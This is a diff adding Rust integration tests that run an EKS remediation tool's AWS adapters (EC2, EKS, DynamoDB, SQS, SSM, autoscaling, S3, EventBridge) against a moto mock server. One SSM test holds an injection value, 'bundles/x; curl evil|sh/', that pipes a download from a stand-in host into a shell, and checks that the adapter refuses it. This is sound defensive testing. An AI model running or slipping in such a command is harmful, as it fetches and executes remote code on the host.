@@ -1,0 +1,531 @@
+//! Every adapter against moto in server mode (real HTTP, real SDK serialization). Operations moto
+//! lacks (EKS add-ons, CompleteLifecycleAction) come from the extension in `tests/moto_server.py`.
+
+#![allow(clippy::expect_used, clippy::unwrap_used)] // tests fail by panicking
+
+mod common;
+
+use std::collections::BTreeSet;
+use std::io::Read;
+
+use common::*;
+use eks_remedy_aws::ec2::Ec2;
+use eks_remedy_aws::eks::Eks;
+use eks_remedy_aws::lifecycle::AutoScaling;
+use eks_remedy_aws::objects::{client as s3_client, Objects};
+use eks_remedy_aws::publish::Publisher;
+use eks_remedy_aws::queue::Queue;
+use eks_remedy_aws::ssm::Ssm;
+use eks_remedy_aws::store::Store;
+use eks_remedy_pipeline::model::{
+    ClusterKey, CollectionRequest, FoldDelta, FoldResult, FoldWrite, IncidentKind,
+};
+use eks_remedy_pipeline::ports::*;
+use eks_remedy_pipeline::{CollectionMethod, PortError};
+
+fn window() -> chrono::DateTime<chrono::Utc> {
+    chrono::DateTime::parse_from_rfc3339("2026-10-19T05:00:00Z")
+        .unwrap()
+        .into()
+}
+
+fn fold(id: &str, events: &[&str], claim: &[&str], max: u32) -> FoldWrite {
+    let mut delta = FoldDelta::default();
+    for e in events {
+        delta.event_ids.push(e.to_string());
+        *delta
+            .apis
+            .entry("AssignPrivateIpAddresses".into())
+            .or_default() += 1;
+        *delta.callers.entry("vpc-cni".into()).or_default() += 1;
+    }
+    delta.nodes = claim.iter().map(|s| s.to_string()).collect();
+    FoldWrite {
+        incident_id: id.into(),
+        cluster: ClusterKey {
+            account: "123456789012".into(),
+            region: "us-east-1".into(),
+            cluster: "prod".into(),
+        },
+        kind: IncidentKind::Throttling,
+        window: window(),
+        delta,
+        claim: claim.iter().map(|s| s.to_string()).collect(),
+        max_claims: max,
+        expires_at: chrono::Utc::now() + chrono::Duration::days(14),
+    }
+}
+
+#[tokio::test]
+async fn ec2_finds_nodes_by_ip_and_id_and_caches_type_limits() {
+    let sdk = sdk().await;
+    let (id, ip) = node(&sdk, Some("prod-ec2"), "m5.large").await;
+    let ec2 = Ec2::new(aws_sdk_ec2::Client::new(&sdk));
+    let found = ec2.instance_by_ip(&ip).await.unwrap().expect("by ip");
+    assert_eq!(
+        (found.instance_id.as_str(), found.cluster.as_deref()),
+        (id.as_str(), Some("prod-ec2"))
+    );
+    assert_eq!(found.asg.as_deref(), Some("eks-prod-ec2-ng"));
+    assert_eq!(ec2.instance_by_ip("10.255.255.254").await.unwrap(), None);
+    assert!(
+        ec2.instances(&["i-0000000000000dead".into()])
+            .await
+            .unwrap()
+            .is_empty(),
+        "unknown instance is absent, not an error"
+    );
+    assert_eq!(
+        ec2.type_limits("m5.large").await.unwrap(),
+        Some((3, 10)),
+        "moto's real NetworkInfo"
+    );
+    let calls = ec2.calls();
+    assert_eq!(ec2.type_limits("m5.large").await.unwrap(), Some((3, 10)));
+    assert_eq!(ec2.calls(), calls, "DescribeInstanceTypes is cached");
+}
+
+#[tokio::test]
+async fn ec2_volume_reports_attachment_and_performance() {
+    let sdk = sdk().await;
+    let (id, _) = node(&sdk, Some("prod-vol"), "m5.large").await;
+    let c = aws_sdk_ec2::Client::new(&sdk);
+    let v = c
+        .create_volume()
+        .availability_zone("us-east-1a")
+        .size(20)
+        .volume_type(aws_sdk_ec2::types::VolumeType::Gp3)
+        .iops(3000)
+        .throughput(125)
+        .send()
+        .await
+        .unwrap();
+    let vid = v.volume_id().unwrap().to_string();
+    c.attach_volume()
+        .volume_id(&vid)
+        .instance_id(&id)
+        .device("/dev/xvdb")
+        .send()
+        .await
+        .unwrap();
+    let vol = Ec2::new(c).volume(&vid).await.unwrap().expect("volume");
+    assert_eq!(vol.instance_id.as_deref(), Some(id.as_str()));
+    assert_eq!(
+        (vol.volume_type.as_deref(), vol.size_gib, vol.iops),
+        (Some("gp3"), Some(20), Some(3000))
+    );
+}
+
+#[tokio::test]
+async fn eks_describes_cluster_addon_and_default_version() {
+    let sdk = sdk().await;
+    let c = aws_sdk_eks::Client::new(&sdk);
+    let name = unique("prod");
+    c.create_cluster()
+        .name(&name)
+        .version("1.30")
+        .role_arn("arn:aws:iam::123456789012:role/eks")
+        .resources_vpc_config(
+            aws_sdk_eks::types::VpcConfigRequest::builder()
+                .endpoint_private_access(true)
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    let eks = Eks::new(c.clone());
+    let info = eks.describe(&name).await.unwrap();
+    assert_eq!(info.version.as_deref(), Some("1.30"));
+    assert!(info.endpoint.is_some());
+    assert!(
+        info.self_managed_cni,
+        "no managed add-on: DescribeAddon says ResourceNotFoundException"
+    );
+    c.create_addon()
+        .cluster_name(&name)
+        .addon_name("vpc-cni")
+        .addon_version("v1.18.3-eksbuild.1")
+        .send()
+        .await
+        .unwrap();
+    let info = eks.describe(&name).await.unwrap();
+    assert_eq!(info.vpc_cni_version.as_deref(), Some("v1.18.3-eksbuild.1"));
+    assert_eq!(info.vpc_cni_default.as_deref(), Some("v1.19.0-eksbuild.1"));
+    let issuer = c
+        .describe_cluster()
+        .name(&name)
+        .send()
+        .await
+        .unwrap()
+        .cluster()
+        .unwrap()
+        .identity()
+        .unwrap()
+        .oidc()
+        .unwrap()
+        .issuer()
+        .unwrap()
+        .to_string();
+    let arn = format!(
+        "arn:aws:iam::123456789012:oidc-provider/{}",
+        issuer.trim_start_matches("https://")
+    );
+    assert_eq!(
+        eks.cluster_for_oidc(&arn).await.unwrap().as_deref(),
+        Some(name.as_str())
+    );
+    assert!(matches!(
+        eks.describe("no-such-cluster").await,
+        Err(PortError::NotFound { .. })
+    ));
+}
+
+#[tokio::test]
+async fn store_folds_once_replays_nothing_and_keeps_the_budget() {
+    let sdk = sdk().await;
+    let store = Store::new(aws_sdk_dynamodb::Client::new(&sdk), table(&sdk).await);
+    let w = fold(
+        "prod:throttling:20261019T0500",
+        &["e1", "e2"],
+        &["i-1", "i-2"],
+        3,
+    );
+    assert_eq!(
+        store.fold(&w).await.unwrap(),
+        FoldResult::Written {
+            claimed: BTreeSet::from(["i-1".into(), "i-2".into()])
+        }
+    );
+    match store
+        .fold(&fold(
+            "prod:throttling:20261019T0500",
+            &["e2", "e3"],
+            &[],
+            3,
+        ))
+        .await
+        .unwrap()
+    {
+        FoldResult::Replayed { seen } => assert_eq!(seen, BTreeSet::from(["e2".to_string()])),
+        other => panic!("expected a replay, got {other:?}"),
+    }
+    assert_eq!(
+        store
+            .fold(&fold(
+                "prod:throttling:20261019T0500",
+                &["e3"],
+                &["i-3", "i-4"],
+                3
+            ))
+            .await
+            .unwrap(),
+        FoldResult::BudgetSpent
+    );
+    assert!(matches!(
+        store
+            .fold(&fold("prod:throttling:20261019T0500", &["e3"], &["i-3"], 3))
+            .await
+            .unwrap(),
+        FoldResult::Written { .. }
+    ));
+    let item = store
+        .incident("prod:throttling:20261019T0500")
+        .await
+        .unwrap()
+        .expect("incident");
+    assert_eq!(item["events"], 3, "the replayed e2 was not counted twice");
+    assert_eq!(item["api:AssignPrivateIpAddresses"], 3);
+    assert_eq!(item["claimed"].as_array().unwrap().len(), 3);
+    assert_eq!(item["kind"], "throttling");
+}
+
+#[tokio::test]
+async fn store_locks_nodes_records_commands_notes_and_findings() {
+    let sdk = sdk().await;
+    let store = Store::new(aws_sdk_dynamodb::Client::new(&sdk), table(&sdk).await);
+    let exp = (chrono::Utc::now() + chrono::Duration::days(1)).timestamp();
+    assert_eq!(
+        store
+            .lock_node("i-1", "20261019T0500", "inc-a", exp)
+            .await
+            .unwrap(),
+        NodeLock::Acquired
+    );
+    assert_eq!(
+        store
+            .lock_node("i-1", "20261019T0500", "inc-a", exp)
+            .await
+            .unwrap(),
+        NodeLock::Ours { command_id: None }
+    );
+    assert_eq!(
+        store
+            .lock_node("i-1", "20261019T0500", "inc-b", exp)
+            .await
+            .unwrap(),
+        NodeLock::Taken
+    );
+    let req = CollectionRequest {
+        incident_id: "inc-a".into(),
+        cluster: ClusterKey {
+            account: "1".into(),
+            region: "us-east-1".into(),
+            cluster: "prod".into(),
+        },
+        instance_id: "i-1".into(),
+        reason: "r".into(),
+        window: window(),
+    };
+    store.record_command("cmd-1", &req, exp).await.unwrap();
+    assert_eq!(
+        store
+            .lock_node("i-1", "20261019T0500", "inc-a", exp)
+            .await
+            .unwrap(),
+        NodeLock::Ours {
+            command_id: Some("cmd-1".into())
+        }
+    );
+    assert_eq!(store.command("cmd-1").await.unwrap(), Some(req));
+    assert_eq!(store.command("cmd-unknown").await.unwrap(), None);
+    store
+        .note("inc-a", "collection-failed: TimedOut")
+        .await
+        .unwrap();
+    store
+        .record_findings(
+            "inc-a",
+            "i-1",
+            &["ebs-io-throttling".into()],
+            "bundles/x/report.json",
+        )
+        .await
+        .unwrap();
+    let item = store.incident("inc-a").await.unwrap().unwrap();
+    assert_eq!(item["notes"][0], "collection-failed: TimedOut");
+    assert_eq!(item["findings:i-1"][0], "ebs-io-throttling");
+    // An expired lock (TTL passed, not yet deleted by DynamoDB) no longer holds the node.
+    assert_eq!(
+        store.lock_node("i-2", "w", "inc-a", 1).await.unwrap(),
+        NodeLock::Acquired
+    );
+    assert_eq!(
+        store.lock_node("i-2", "w", "inc-b", exp).await.unwrap(),
+        NodeLock::Acquired,
+        "expired item treated as absent"
+    );
+}
+
+#[tokio::test]
+async fn queue_delivers_requests_with_delay() {
+    let sdk = sdk().await;
+    let c = aws_sdk_sqs::Client::new(&sdk);
+    let url = c
+        .create_queue()
+        .queue_name(unique("collect"))
+        .send()
+        .await
+        .unwrap()
+        .queue_url()
+        .unwrap()
+        .to_string();
+    let req = CollectionRequest {
+        incident_id: "inc".into(),
+        cluster: ClusterKey {
+            account: "1".into(),
+            region: "us-east-1".into(),
+            cluster: "prod".into(),
+        },
+        instance_id: "i-1".into(),
+        reason: "r".into(),
+        window: window(),
+    };
+    Queue::new(c.clone(), &url).enqueue(&req, 0).await.unwrap();
+    let got = c
+        .receive_message()
+        .queue_url(&url)
+        .wait_time_seconds(1)
+        .send()
+        .await
+        .unwrap();
+    let body: CollectionRequest = serde_json::from_str(got.messages()[0].body().unwrap()).unwrap();
+    assert_eq!(body, req);
+}
+
+#[tokio::test]
+async fn ssm_sends_the_collector_script_and_refuses_unsafe_names() {
+    let sdk = sdk().await;
+    let (id, _) = node(&sdk, Some("prod-ssm"), "m5.large").await;
+    let c = aws_sdk_ssm::Client::new(&sdk);
+    let ssm = Ssm::new(c.clone(), CollectionMethod::RunCommand, None);
+    let cmd = ssm
+        .collect(&id, "eks-remedy-bundles", "bundles/prod-ssm/i-1/inc_1/")
+        .await
+        .unwrap();
+    let listed = c.list_commands().command_id(&cmd).send().await.unwrap();
+    let params = listed.commands()[0].parameters().unwrap();
+    let script = params["commands"].join("\n");
+    assert!(script.contains("aws s3 cp \"$bundle\" \"s3://eks-remedy-bundles/bundles/prod-ssm/i-1/inc_1/$(basename \"$bundle\")\""), "{script}");
+    let bad = ssm.collect(&id, "b", "bundles/x; curl evil|sh/").await;
+    assert!(matches!(bad, Err(PortError::Refused { .. })), "{bad:?}");
+}
+
+#[tokio::test]
+async fn lifecycle_actions_are_completed_with_continue() {
+    let sdk = sdk().await;
+    let ec2 = aws_sdk_ec2::Client::new(&sdk);
+    let lt = unique("lt");
+    ec2.create_launch_template()
+        .launch_template_name(&lt)
+        .launch_template_data(
+            aws_sdk_ec2::types::RequestLaunchTemplateData::builder()
+                .image_id("ami-12c6146b")
+                .instance_type(aws_sdk_ec2::types::InstanceType::M5Large)
+                .build(),
+        )
+        .send()
+        .await
+        .unwrap();
+    let asg = aws_sdk_autoscaling::Client::new(&sdk);
+    let group = unique("eks-ng");
+    asg.create_auto_scaling_group()
+        .auto_scaling_group_name(&group)
+        .launch_template(
+            aws_sdk_autoscaling::types::LaunchTemplateSpecification::builder()
+                .launch_template_name(&lt)
+                .build(),
+        )
+        .min_size(0)
+        .max_size(1)
+        .availability_zones("us-east-1a")
+        .send()
+        .await
+        .unwrap();
+    let token = "87654321-4321-4321-4321-210987654321";
+    AutoScaling::new(asg.clone())
+        .proceed(&group, "eks-remedy-launch", token, "i-0abc12345def67891")
+        .await
+        .unwrap();
+    let calls: serde_json::Value = reqwest_free_get(&format!(
+        "{}/moto-api/eks-remedy/lifecycle-actions",
+        moto().endpoint
+    ));
+    assert!(calls
+        .as_array()
+        .unwrap()
+        .iter()
+        .any(|c| c["group"] == group.as_str() && c["result"] == "CONTINUE" && c["token"] == token));
+    assert!(AutoScaling::new(asg)
+        .proceed("no-such-group", "h", token, "i-1")
+        .await
+        .is_err());
+}
+
+/// A GET over plain std TCP (no HTTP client crate needed for one loopback call).
+fn reqwest_free_get(url: &str) -> serde_json::Value {
+    use std::io::Write;
+    let rest = url.strip_prefix("http://").unwrap();
+    let (host, path) = rest.split_once('/').unwrap();
+    let mut s = std::net::TcpStream::connect(host).unwrap();
+    write!(s, "GET /{path} HTTP/1.0\r\nHost: {host}\r\n\r\n").unwrap();
+    let mut out = String::new();
+    s.read_to_string(&mut out).unwrap();
+    serde_json::from_str(out.split("\r\n\r\n").nth(1).unwrap()).unwrap()
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn s3_objects_stream_and_missing_keys_are_not_found() {
+    let sdk = sdk().await;
+    let c = s3_client(&sdk);
+    let bucket = unique("bundles");
+    c.create_bucket().bucket(&bucket).send().await.unwrap();
+    let objects = Objects::new(c);
+    let body: Vec<u8> = (0..3_000_000u32).map(|i| (i % 251) as u8).collect();
+    objects
+        .put(
+            &bucket,
+            "bundles/a.tar.gz",
+            body.clone(),
+            "application/gzip",
+        )
+        .await
+        .unwrap();
+    let mut reader = objects.open(&bucket, "bundles/a.tar.gz").await.unwrap();
+    let read = tokio::task::spawn_blocking(move || {
+        let mut v = Vec::new();
+        reader.read_to_end(&mut v).unwrap();
+        v
+    })
+    .await
+    .unwrap();
+    assert_eq!(read, body);
+    assert!(matches!(
+        objects.open(&bucket, "nope").await,
+        Err(PortError::NotFound { .. })
+    ));
+}
+
+#[tokio::test]
+async fn findings_events_reach_the_bus() {
+    let sdk = sdk().await;
+    let ev = aws_sdk_eventbridge::Client::new(&sdk);
+    let sqs = aws_sdk_sqs::Client::new(&sdk);
+    let bus = unique("eks-remedy");
+    ev.create_event_bus().name(&bus).send().await.unwrap();
+    let url = sqs
+        .create_queue()
+        .queue_name(unique("findings"))
+        .send()
+        .await
+        .unwrap()
+        .queue_url()
+        .unwrap()
+        .to_string();
+    let arn = sqs
+        .get_queue_attributes()
+        .queue_url(&url)
+        .attribute_names(aws_sdk_sqs::types::QueueAttributeName::QueueArn)
+        .send()
+        .await
+        .unwrap()
+        .attributes()
+        .unwrap()[&aws_sdk_sqs::types::QueueAttributeName::QueueArn]
+        .clone();
+    ev.put_rule()
+        .name("findings")
+        .event_bus_name(&bus)
+        .event_pattern(r#"{"source":["eks-remedy"]}"#)
+        .send()
+        .await
+        .unwrap();
+    ev.put_targets()
+        .rule("findings")
+        .event_bus_name(&bus)
+        .targets(
+            aws_sdk_eventbridge::types::Target::builder()
+                .id("q")
+                .arn(arn)
+                .build()
+                .unwrap(),
+        )
+        .send()
+        .await
+        .unwrap();
+    Publisher::new(ev, &bus)
+        .publish(
+            "eks-remedy findings",
+            &serde_json::json!({"incident_id": "inc"}),
+        )
+        .await
+        .unwrap();
+    let got = sqs
+        .receive_message()
+        .queue_url(&url)
+        .wait_time_seconds(1)
+        .send()
+        .await
+        .unwrap();
+    let msg: serde_json::Value = serde_json::from_str(got.messages()[0].body().unwrap()).unwrap();
+    assert_eq!(msg["detail"]["incident_id"], "inc");
+    assert_eq!(msg["detail-type"], "eks-remedy findings");
+}
